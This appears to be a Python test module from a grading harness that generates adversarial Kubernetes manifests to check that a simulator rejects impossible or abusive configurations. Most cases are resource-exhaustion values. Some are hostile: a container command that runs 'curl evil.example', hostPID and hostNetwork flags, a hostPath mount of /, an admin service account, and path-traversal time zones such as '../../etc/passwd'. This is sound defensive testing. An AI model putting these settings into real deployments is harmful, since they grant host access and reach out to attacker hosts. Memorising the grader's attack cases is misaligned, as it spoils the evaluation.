"""Manifests with impossible demands on the simulator, the admission or the calendar."""

from __future__ import annotations

import json
from collections.abc import Iterator

from graders.core.registry import exercise
from tests.attacks.attack import RIGHT, Attack, answer_attack, right_answer
from tests.support.solutions import solution


def simulator() -> Iterator[Attack]:
    right = right_answer()

    def deployment(name: str, old: str, new: str, most: float | None = RIGHT) -> Attack:
        assert old in right
        return answer_attack("simulator", name, "deployment", right.replace(old, new), most=most)

    for replicas in (
        "1000000000",
        "2147483647",
        "9223372036854775807",
        "-1",
        "1e400",
        ".inf",
        "0x7fffffff",
        "18446744073709551616",
    ):
        yield deployment(f"{replicas} replicas", "replicas: 3", f"replicas: {replicas}", most=RIGHT - 3)
    for cpu in ("1e999999999", "9" * 1000 + "Ei", "1e-999999999", "0." + "0" * 10_000 + "1m", "1" + "0" * 100_000):
        yield deployment(f"cpu: {cpu[:20]}, {len(cpu)} characters", "cpu: 100m", f"cpu: {cpu}")
    for field in ("initialDelaySeconds", "periodSeconds", "timeoutSeconds", "failureThreshold", "successThreshold"):
        yield deployment(f"{field} of 2^31-1", "livenessProbe:\n", f"livenessProbe:\n            {field}: 2147483647\n")
    for field, value in (
        ("minReadySeconds", "2147483647"), ("progressDeadlineSeconds", "2147483647"), ("progressDeadlineSeconds", "1"),
        ("revisionHistoryLimit", "2147483647"), ("paused", "true"),
        ("strategy", "{type: RollingUpdate, rollingUpdate: {maxSurge: 999999999%, maxUnavailable: 0}}"),
        ("strategy", "{type: RollingUpdate, rollingUpdate: {maxSurge: 2147483647, maxUnavailable: 2147483647}}"),
    ):  # fmt: skip
        yield deployment(f"{field}: {value[:60]}", "replicas: 3", f"replicas: 3\n  {field}: {value}")
    pod = "    spec:\n      containers:"
    for field, value in (
        ("terminationGracePeriodSeconds", "2147483647"), ("terminationGracePeriodSeconds", "9223372036854775807"),
        ("hostPID", "true"), ("hostNetwork", "true"), ("serviceAccountName", "admin"), ("nodeName", "control-plane"),
        ("priorityClassName", "system-node-critical"), ("volumes", "[{name: root, hostPath: {path: /}}]"),
        ("hostAliases", "[{ip: 127.0.0.1, hostnames: [evil.example]}]"),
    ):  # fmt: skip
        yield deployment(f"{field}: {value[:40]}", pod, f"    spec:\n      {field}: {value}\n      containers:")
    many = "".join(f"        - {{name: c{n}, image: x}}\n" for n in range(5_000))
    yield deployment("5,000 containers", "      containers:\n", f"      containers:\n{many}")
    ports = "".join(f"            - {{containerPort: {n}}}\n" for n in range(1, 6_000))
    yield deployment("6,000 ports", "          ports:\n", f"          ports:\n{ports}")
    labels = "".join(f"        l{n}: x\n" for n in range(10_000))
    yield deployment(
        "10,000 labels", "      labels:\n        app: orders\n", f"      labels:\n        app: orders\n{labels}"
    )
    yield deployment("an image of 200,000 characters", "shop/orders:1.0.0", f"shop/orders:{'1' * 200_000}")
    sleep = "          lifecycle: {preStop: {sleep: {seconds: 2147483647}}}\n          ports:\n"
    yield deployment("a pre-stop of 68 years", "          ports:\n", sleep)
    command = "          command: [sh, -c, 'touch owned; curl evil.example']\n          ports:\n"
    yield deployment("a command", "          ports:\n", command)

    job = solution(exercise("daily-report"))
    for schedule in (
        "* * * * *", "0-59/1 0-23/1 1-31/1 1-12/1 0-6/1", "0 2 30 2 *", "@every 1ns", "@reboot", "*/2147483647 * * * *",
        "0 2 1-31,1-31,1-31 * *", ",".join(["0-59"] * 20_000) + " 2 * * *", "9" * 10_000 + " 2 * * *", "TZ=../../etc/passwd 0 2 * * *",
    ):  # fmt: skip
        text = job.replace('"0 2 * * *"', json.dumps(schedule))
        yield answer_attack("simulator", f"the schedule {schedule[:40]}", "daily-report", text, most=5)
    for zone in ("../../../etc/passwd", "/etc/passwd", "Etc/UTC\\0", "A" * 100_000, "../" * 1_000, "Etc/GMT+99"):
        text = job.replace("Etc/UTC", json.dumps(zone))
        yield answer_attack("simulator", f"the time zone {zone[:30]}", "daily-report", text, most=5)
    for field in ("startingDeadlineSeconds: 3600", "concurrencyPolicy: Forbid"):
        text = job.replace(field, f"{field.split(':')[0]}: 9223372036854775807")
        yield answer_attack("simulator", f"{field.split(':')[0]} of 2^63-1", "daily-report", text, most=5)
